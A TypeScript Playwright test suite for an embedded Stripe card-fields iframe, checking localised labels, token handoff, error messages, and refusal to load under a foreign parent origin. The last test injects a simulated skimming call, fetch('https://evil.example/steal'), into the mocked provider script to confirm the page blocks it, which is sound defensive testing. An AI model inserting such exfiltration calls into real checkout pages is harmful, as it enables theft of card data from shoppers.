import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../../../../test/support/chromium.js';
import { cardFieldsPage } from '../http/card-fields-page.js';

const SHOP = 'https://shop.example';
const SETUP = { provider: 'stripe', publishable_key: 'pk_test_1', parent_origin: SHOP };

/** What Stripe's own script offers, as far as the page uses it: fields that are mounted, and a token for a number. */
const STRIPE_JS = `
window.Stripe = (key, { locale }) => ({
  elements: () => ({ create: (type) => ({
    mount: (at) => { const input = document.createElement('input'); input.dataset.type = type; input.dataset.key = key; input.lang = locale; document.querySelector(at).append(input); },
    on: () => undefined,
  }) }),
  createPaymentMethod: async () => {
    const number = document.querySelector('[data-type=cardNumber]').value;
    if (number === '') return { error: { code: 'incomplete_number', message: 'Die Kartennummer ist unvollständig.' } };
    const answer = await fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST', body: number });
    return { paymentMethod: { id: await answer.text() } };
  },
});`;

const PARENT = `<!doctype html><title>shop</title><iframe src="/card-fields/stripe?locale=de" width="400" height="100"></iframe>
<script>window.heard = []; addEventListener('message', (event) => heard.push({ origin: event.origin, ...event.data }));</script>`;

describe('the page of the card fields', () => {
  let browser: Browser;
  beforeAll(async () => void (browser = await launchChromium()), 60_000);
  afterAll(() => browser.close());

  /** Everything is answered here: nothing leaves the machine. */
  async function open(parent = SHOP, script: string | null = STRIPE_JS): Promise<{ page: Page; asked: string[] }> {
    const page = await browser.newPage();
    const asked: string[] = [];
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      asked.push(`${route.request().method()} ${url.origin}${url.pathname}`);
      if (url.pathname.startsWith('/card-fields/')) {
        const { html, headers } = cardFieldsPage(SETUP, url.searchParams);
        return route.fulfill({ body: html, headers });
      }
      if (url.origin === 'https://js.stripe.com') return script === null ? route.abort() : route.fulfill({ body: script, contentType: 'text/javascript' });
      if (url.origin === 'https://api.stripe.com') return route.fulfill({ body: `pm_${route.request().postData()}`, headers: { 'access-control-allow-origin': '*' } });
      return route.fulfill({ body: PARENT.replace('/card-fields', `${SHOP}/card-fields`), contentType: 'text/html' });
    });
    await page.goto(`${parent}/checkout`);
    return { page, asked };
  }
  const heard = (page: Page, type: string) => page.waitForFunction((wanted) => (window as never as { heard: { type: string }[] }).heard.find((message) => message.type === wanted), `hubcraft.stripe.${type}`).then((found) => found.jsonValue());
  const submit = (page: Page) => page.evaluate((origin) => document.querySelector('iframe')!.contentWindow!.postMessage({ type: 'hubcraft.stripe.submit' }, origin), SHOP);

  it('draws the fields of the provider in the language of the player, and hands the token to the checkout', async () => {
    const { page, asked } = await open();
    const fields = page.frameLocator('iframe');
    await fields.locator('[data-type=cardNumber]').fill('4242');
    expect(await fields.locator('label').allTextContents()).toEqual(['Kartennummer', 'Gültig bis', 'Prüfziffer']);
    expect(await fields.locator('[data-type=cardNumber]').getAttribute('data-key')).toBe('pk_test_1');
    expect(await heard(page, 'height')).toMatchObject({ origin: SHOP, height: expect.any(Number) });
    await submit(page);
    expect(await heard(page, 'token')).toEqual({ origin: SHOP, type: 'hubcraft.stripe.token', token: 'pm_4242' });
    // The number went to the provider alone.
    expect(asked.filter((each) => each.startsWith('POST'))).toEqual(['POST https://api.stripe.com/v1/payment_methods']);
    await page.close();
  });

  it('says what is wrong at its field, and tells the checkout that there is no token', async () => {
    const { page } = await open();
    await page.frameLocator('iframe').locator('[data-type=cardCvc]').waitFor();
    await submit(page);
    await heard(page, 'error');
    expect(await page.frameLocator('iframe').locator('#number-error').textContent()).toBe('Die Kartennummer ist unvollständig.');
    await page.close();
  });

  it('is embedded by no other site, and sends nothing anywhere else', async () => {
    const { page, asked } = await open('https://evil.example');
    await page.waitForTimeout(300);
    expect(await page.frames().at(-1)!.evaluate(() => document.querySelectorAll('[data-type]').length).catch(() => 0)).toBe(0);
    expect(asked).not.toContain('GET https://js.stripe.com/v3/');
    await page.close();
    const own = await open(SHOP, `${STRIPE_JS}; fetch('https://evil.example/steal').catch(() => (document.title = 'refused'));`);
    await own.page.frameLocator('iframe').locator('[data-type=cardNumber]').waitFor();
    await own.page.waitForTimeout(200);
    expect(own.asked.filter((each) => each.includes('evil'))).toEqual([]);
    await own.page.close();
  });
});
